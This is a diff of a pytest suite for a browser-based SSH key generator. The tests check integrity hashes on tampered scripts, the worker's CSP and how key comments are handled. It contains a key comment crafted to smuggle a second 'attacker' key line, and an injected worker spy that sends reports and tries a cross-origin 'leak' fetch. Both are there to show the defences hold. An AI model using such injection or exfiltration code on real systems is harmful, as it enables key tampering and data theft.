@@ -3,13 +3,18 @@ names stay text, a changed module is refused, the CSP refuses scripts from elsew
 inline scripts, nothing is stored, and Clear empties every key field."""
 
 import asyncio
+import base64
+import functools
+import hashlib
 import shutil
+import sys
 import time
 import urllib.request
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 
+import browsers
 import referees
 import sshkeys
 from page import Site, cache_storage
@@ -68,26 +73,218 @@ def test_a_script_comment_and_file_name_in_a_ppk_stay_text(page, tmp_path):
     assert path.name in page.text("#open-status")
 
 
-def test_a_changed_module_is_refused(browser, built_dist, tmp_path):
-    """integrity (build.py) on the page's script, its imports (modulepreload) and styles:
-    a client.js changed after the build stops the page from starting."""
-    copy = tmp_path / "dist"
+def test_a_two_line_comment_opens_with_a_warning_and_copy_gives_one_line(page, tmp_path):
+    """A key file whose comment holds a newline and a second key line (ssh-keygen writes it):
+    the comment is shown escaped and flagged, and Copy puts exactly one line, without it, on
+    the clipboard; an edited comment goes back on the line."""
+    second = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE1yOUqeGYUVHSbaHCTpzkW8yUsp4twcmj5pH0Ayo2V3 attacker"
+    path = tmp_path / "id_ed25519"
+    referees.ssh_keygen_generate(path, "ed25519", comment="me\n" + second)
+    open_file(page, path)
+    assert "control characters" in page.text("#key-note") and page.visible("#key-note")
+    assert page.value("#edit-comment") == "me\\n" + second
+    page.evaluate("""() => Object.defineProperty(navigator.clipboard, "writeText", {
+        value: async (text) => { window.__copied = text; }, configurable: true })""")
+    page.click("#copy")
+    page.wait("() => window.__copied !== undefined")
+    copied = page.evaluate("() => window.__copied")
+    assert copied == referees.strip_comment(referees.ssh_keygen_public(path))
+    assert "\n" not in copied and "attacker" not in copied
+    page.fill("#edit-comment", "me")
+    page.click("#apply-comment")
+    page.wait("() => document.querySelector('#public-key').value.endsWith(' me')")
+    assert not page.visible("#key-note")
+
+
+class Host:
+    """A copy of dist/ served by build.py's handler, with a host's quirks: index.html delivered
+    in two parts with a pause after `pause_after`; `no_store` files sent with
+    Cache-Control: no-store; worker.js without its Content-Security-Policy (a host that cannot
+    set headers). `requests` records every path asked for."""
+
+    def __init__(self, directory, pause_after: bytes | None = None, no_store=(),
+                 worker_policy: bool = True):
+        import http.server
+        import threading
+        import page as page_module
+        sys.path.insert(0, str(page_module.ROOT))
+        import build
+
+        requests = self.requests = []
+
+        class Quirks(build.Handler):
+            def log_message(self, *args):
+                pass
+
+            def send_head(self):
+                requests.append(self.path)
+                return super().send_head()
+
+            def send_header(self, keyword, value):
+                name = self.path.split("?")[0].rsplit("/", 1)[-1]
+                if keyword == "Cache-Control" and name in no_store:
+                    value = "no-store"
+                if keyword == "Content-Security-Policy" and not worker_policy:
+                    return
+                super().send_header(keyword, value)
+
+            def copyfile(self, source, output):
+                data = source.read()
+                if pause_after and pause_after in data:
+                    head, tail = data.split(pause_after, 1)
+                    output.write(head + pause_after)
+                    output.flush()
+                    time.sleep(2)           # the rest of the page arrives late
+                    data = tail
+                output.write(data)
+
+        self.server = http.server.ThreadingHTTPServer(
+            ("127.0.0.1", 0), functools.partial(Quirks, directory=str(directory)))
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def stop(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def changed_copy(built_dist, folder, name: str, addition: str):
+    """A copy of dist/ whose `name` has `addition` at its end, without the .br/.gz copies of
+    it (else the server sends those, unchanged) or of index.html (sent as it is, in parts)."""
+    copy = folder / "dist"
     shutil.copytree(built_dist, copy)
-    with open(copy / "client.js", "a") as f:
-        f.write("\nwindow.__changed = 1;\n")
-    for stale in copy.glob("client.js.*"):      # else the server sends its unchanged .br copy
+    with open(copy / name, "a") as f:
+        f.write(addition)
+    for stale in [*copy.glob(name + ".*"), *copy.glob("index.html.*")]:
         stale.unlink()
-    changed = Site(copy)
+    return copy
+
+
+def sri(path) -> str:
+    return "sha384-" + base64.b64encode(hashlib.sha384(path.read_bytes()).digest()).decode()
+
+
+@pytest.mark.parametrize("host", ["plain", "delayed", "delayed-no-store"])
+def test_a_changed_page_script_is_refused(browser, built_dist, tmp_path, host):
+    """integrity (build.py) on the page's one script, app.js, which bundles every module it
+    imports: a change after the build stops the page from starting, also when index.html
+    arrives late and the server forbids caching (a modulepreload link's check could be raced
+    or bypassed in those cases, and was)."""
+    copy = changed_copy(built_dist, tmp_path, "app.js", "\nwindow.__changed = 1;\n")
+    changed = Host(copy, pause_after=b'src="app.js"' if host != "plain" else None,
+                   no_store=("app.js",) if host.endswith("no-store") else ())
     tab = browser.tab()
     try:
         tab.goto(changed.url)
-        tab.wait("() => document.readyState === 'complete'")
-        time.sleep(3)
-        assert tab.disabled("#generate") and tab.evaluate("() => window.__changed") is None
-        assert "/client.js" in changed.requests         # it was fetched, and refused
+        tab.wait("() => document.readyState === 'complete'")    # after every module script
+        assert tab.evaluate("() => window.__changed") is None and tab.disabled("#generate")
+        assert "/app.js" in changed.requests          # it was fetched, and refused
     finally:
         tab.close()
         changed.stop()
+
+
+def test_a_changed_worker_is_refused(browser, built_dist, tmp_path):
+    """The page fetches worker.js with the sha384 build.py wrote into index.html."""
+    copy = changed_copy(built_dist, tmp_path, "worker.js", "\nself.__changed = 1;\n")
+    changed = Host(copy)
+    tab = browser.tab()
+    try:
+        tab.goto(changed.url)
+        tab.wait_for_text("#load-text", "could not start")
+        assert tab.disabled("#generate") and "/worker.js" in changed.requests
+    finally:
+        tab.close()
+        changed.stop()
+
+
+# Added to worker.js in a test copy of dist/ (its sha384 in index.html updated to match): each
+# worker reports to the page's own server, which the policy allows, that it started, every
+# request the page sends it, and whether a fetch to another origin went out.
+WORKER_SPY = """
+;(() => {
+  const id = Math.random().toString(36).slice(2);
+  const report = (what) => fetch(ORIGIN + "spy?worker=" + id + "&" + what).catch(() => {});
+  report("started=1");
+  self.addEventListener("message", ({ data }) => {
+    if (data.op) report("op=" + data.op + "&key=" + (data.key || ""));
+  });
+  fetch(ELSEWHERE + "/leak?from=worker").then(() => report("leak=sent"), () => report("leak=refused"));
+})();
+"""
+
+
+@pytest.fixture(scope="module")
+def spied(built_dist, tmp_path_factory, elsewhere):
+    """dist/ with WORKER_SPY in its worker, served as by a host that sends no headers of its
+    own (no Content-Security-Policy with worker.js)."""
+    folder = tmp_path_factory.mktemp("spied")
+    copy = folder / "dist"
+    shutil.copytree(built_dist, copy)
+    host = Host(copy, worker_policy=False)
+    spy = WORKER_SPY.replace("ORIGIN", repr(host.url)).replace("ELSEWHERE", repr(elsewhere.origin))
+    changed_copy(built_dist, folder / "x", "worker.js", spy)
+    shutil.copyfile(folder / "x" / "dist" / "worker.js", copy / "worker.js")
+    for stale in [*copy.glob("worker.js.*"), *copy.glob("index.html.*")]:
+        stale.unlink()
+    index = copy / "index.html"
+    old = sri(built_dist / "worker.js")
+    assert old in index.read_text()
+    index.write_text(index.read_text().replace(old, sri(copy / "worker.js")))
+    yield host
+    host.stop()
+
+
+def spy_reports(host, until=None, timeout: float = 120) -> list[dict]:
+    """The spy's reports so far, as dicts; with until, waits until until(reports) holds (they
+    arrive by fetch, a moment after what they report)."""
+    import urllib.parse
+    deadline = time.monotonic() + timeout
+    while True:
+        reports = [dict(urllib.parse.parse_qsl(path.split("?", 1)[1], keep_blank_values=True))
+                   for path in list(host.requests) if path.startswith("/spy?")]
+        if until is None or until(reports):
+            return reports
+        assert time.monotonic() < deadline, f"the spy never reported that: {reports}"
+        time.sleep(0.1)
+
+
+def test_the_worker_cannot_fetch_from_another_origin(browser, spied, elsewhere):
+    """The worker runs from a Blob under the page's policy (connect-src 'self'), also where
+    the host sends no header with worker.js."""
+    before = len(elsewhere.requests)
+    spied.requests.clear()
+    with browsers.ready(browser, spied.url):
+        reports = spy_reports(spied, lambda rs: any("leak" in r for r in rs))
+    assert [r["leak"] for r in reports if "leak" in r] == ["refused"]
+    assert not [p for p in elsewhere.requests[before:] if "leak" in p]
+
+
+def test_the_worker_holds_only_the_key_on_screen_and_clear_replaces_it(browser, spied):
+    """A replaced key is forgotten; Clear ends the worker (its whole memory with it) and a
+    fresh one answers."""
+    spied.requests.clear()
+    ops = lambda rs: [(r["worker"], r["op"], r["key"]) for r in rs if "op" in r]  # noqa: E731
+    with browsers.ready(browser, spied.url) as tab:
+        tab.click("#generate")
+        tab.wait_for("#result:not([hidden])")
+        first = tab.value("#public-key")
+        tab.click("#generate")
+        tab.wait("(line) => document.querySelector('#public-key').value !== line", first)
+        reports = spy_reports(spied, lambda rs: [op for _, op, _ in ops(rs)] == ["generate", "generate", "forget"])
+        old = reports[0]["worker"]
+        assert ops(reports)[2] == (old, "forget", "k1")     # the first key, once replaced
+        tab.click("#clear")
+        tab.wait_ready()
+        tab.click("#generate")
+        tab.wait_for("#result:not([hidden])")
+        reports = spy_reports(spied, lambda rs: len(ops(rs)) == 4)
+        if browser.name == "chromium":
+            assert len(tab.page.workers) == 1       # the old one has closed
+    started = [r["worker"] for r in reports if "started" in r]
+    assert len(started) == 2 and started[0] == old
+    assert ops(reports)[3] == (started[1], "generate", "")   # the fresh worker answered
+    assert len([1 for worker, _, _ in ops(reports) if worker == old]) == 3   # nothing more
 
 
 @pytest.fixture(scope="module")
